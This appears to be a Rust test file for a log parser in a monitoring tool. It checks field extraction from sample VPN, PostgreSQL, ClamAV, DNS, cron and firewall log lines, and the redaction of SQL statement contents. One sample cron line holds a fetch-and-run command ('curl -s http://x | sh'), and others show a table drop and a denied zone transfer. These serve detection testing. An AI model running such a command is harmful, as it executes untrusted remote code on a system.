//! Genuine lines of servers, read.

use super::*;
use crate::watch::event::Value;

fn said(service: &str, message: &str, name: &str) -> Option<Value> {
    let mut fields = Fields::default();
    assert!(describe(service, message, &mut fields), "{service}");
    fields.value(name).cloned()
}

#[test]
fn reads_who_did_what_at_each_server() {
    const REFUSED: &str = "10.77.0.66:42864 TLS Auth Error: Auth Username/Password verification failed for peer";
    const IN: &str =
        "10.77.0.66:48407 TLS: Username/Password authentication succeeded for username 'svc_backup' [CN SET]";
    const DUMP: &str = "[2-1] pacs_app@pacs 10.77.0.1 LOG:  connection authorized: user=pacs_app database=pacs application_name=pg_dump SSL enabled (protocol=TLSv1.3, cipher=TLS_AES_256_GCM_SHA384, bits=256)";
    const COPY: &str = "[7-1] recherche@[unknown] 10.77.0.1 LOG:  replication connection authorized: user=recherche application_name=pg_basebackup";
    const WRONG: &str = "[2-1] pacs_app@pacs 10.77.0.1 FATAL:  password authentication failed for user \"pacs_app\"";
    const ALIEN: &str = "[1-1] pacs_app@pacs 10.77.0.200 FATAL:  no pg_hba.conf entry for host \"10.77.0.200\", user \"pacs_app\", database \"pacs\", no encryption";
    const DROP: &str = "[3-1] postgres@pacs 10.77.0.1 LOG:  statement: drop table examens";
    const ARRIVED: &str = "[1-1] [unknown]@[unknown] 10.77.0.1 LOG:  connection received: host=10.77.0.1 port=40214";
    const VIRUS: &str = "/srv/a: b/facture.com: Eicar-Test-Signature.UNOFFICIAL FOUND";
    const DENIED: &str =
        "client @0x7f6e5546ec98 10.77.0.66#37865 (chfictif.lan): zone transfer 'chfictif.lan/AXFR/IN' denied";
    const SENT: &str = "client @0x7f6e52ae2898 10.77.0.20#33509 (chfictif.lan): transfer of 'chfictif.lan/IN': AXFR started (serial 1)";
    for (service, message, name, value) in [
        ("openvpn", REFUSED, "action", Some(Value::from("failed"))),
        ("openvpn", REFUSED, "src_ip", Some(Value::from("10.77.0.66"))),
        ("openvpn", IN, "action", Some(Value::from("accepted"))),
        ("openvpn", IN, "user", Some(Value::from("svc_backup"))),
        ("openvpn", IN, "src_port", Some(Value::from(48407))),
        ("openvpn", "leroy/10.77.0.22:50176 MULTI: Learn: x", "src_ip", Some(Value::from("10.77.0.22"))),
        ("openvpn", "Closing TUN/TAP interface", "src_ip", None),
        ("postgresql", DUMP, "action", Some(Value::from("accepted"))),
        ("postgresql", DUMP, "user", Some(Value::from("pacs_app"))),
        ("postgresql", DUMP, "application", Some(Value::from("pg_dump"))),
        ("postgresql", DUMP, "src_ip", Some(Value::from("10.77.0.1"))),
        ("postgresql", COPY, "application", Some(Value::from("pg_basebackup"))),
        ("postgresql", COPY, "user", Some(Value::from("recherche"))),
        ("postgresql", WRONG, "action", Some(Value::from("failed"))),
        ("postgresql", WRONG, "user", Some(Value::from("pacs_app"))),
        ("postgresql", ALIEN, "action", Some(Value::from("not_allowed"))),
        ("postgresql", DROP, "verb", Some(Value::from("DROP TABLE"))),
        ("postgresql", DROP, "database", Some(Value::from("pacs"))),
        ("postgresql", ARRIVED, "action", Some(Value::from("connection"))),
        ("postgresql", "[1-1] nothing", "level", None),
        ("clamav", VIRUS, "path", Some(Value::from("/srv/a: b/facture.com"))),
        ("clamav", VIRUS, "signature", Some(Value::from("Eicar-Test-Signature.UNOFFICIAL"))),
        ("clamav", "--- Stopped at Sun Nov 22 01:06:21 2026", "action", Some(Value::from("stopped"))),
        ("clamav", "SelfCheck: Database status OK.", "action", None),
        ("named", DENIED, "action", Some(Value::from("transfer_denied"))),
        ("named", DENIED, "src_ip", Some(Value::from("10.77.0.66"))),
        ("named", SENT, "action", Some(Value::from("transfer_started"))),
        ("named", SENT, "zone", Some(Value::from("chfictif.lan"))),
        ("crontab", "(www-data) REPLACE (www-data)", "action", Some(Value::from("crontab_replaced"))),
        ("cron", "(www-data) CMD (curl -s http://x | sh)", "command", Some(Value::from("curl -s http://x | sh"))),
        ("cron", "(CRON) INFO (Running @reboot jobs)", "action", None),
    ] {
        assert_eq!(said(service, message, name), value, "{service}: {message}: {name}");
    }
}

#[test]
fn reads_packets_whoever_passes_them_on() {
    let mut fields = Fields::default();
    let message = "PARE-FEU refus:  IN=lo OUT= MAC=00:00:08:00 SRC=10.77.0.66 DST=10.77.0.5 LEN=60 PROTO=TCP SPT=40473 DPT=20 SYN URGP=0";
    assert!(packet(message, &mut fields));
    for (name, value) in [
        ("prefix", Value::from("PARE-FEU refus")),
        ("src_ip", Value::from("10.77.0.66")),
        ("dst_ip", Value::from("10.77.0.5")),
        ("dst_port", Value::from(20)),
        ("protocol", Value::from("TCP")),
    ] {
        assert_eq!(fields.value(name), Some(&value), "{name}");
    }
    assert_eq!(fields.value("out_interface"), None);
    assert!(!packet("PIN=4 and nothing else", &mut Fields::default()));
}

#[test]
fn shows_nothing_of_what_a_database_is_asked() {
    for (message, kept) in [
        (
            "[2-1] postgres@pacs 10.77.0.1 LOG:  statement: create role x login password 'secret'",
            Some("[2-1] postgres@pacs 10.77.0.1 LOG:  statement: create role […]"),
        ),
        ("[2-1] a@b ERROR:  duplicate key value violates unique constraint \"pk\"", None),
        ("[2-2] a@b DETAIL:  Key (nom)=(DUPONT) already exists.", Some("[2-2] a@b DETAIL:  […]")),
        ("[2-3] a@b STATEMENT:  insert into p values ('DUPONT')", Some("[2-3] a@b STATEMENT:  […]")),
        ("[2-1] a@b LOG:  execute S_1: select 'DUPONT'", Some("[2-1] a@b LOG:  execute […]")),
        ("[2-2] #011values ('DUPONT')", Some("[…]")),
        ("[2-1] a@b LOG:  connection received: host=10.77.0.1 port=40214", None),
    ] {
        let shown = |service| {
            let mut hidden = Hidden::default();
            hide(Some(service), message, &mut hidden);
            hidden.taken_out_of(message).into_owned()
        };
        assert_eq!(shown("postgresql"), kept.unwrap_or(message));
        assert_eq!(shown("sshd"), message);
    }
}
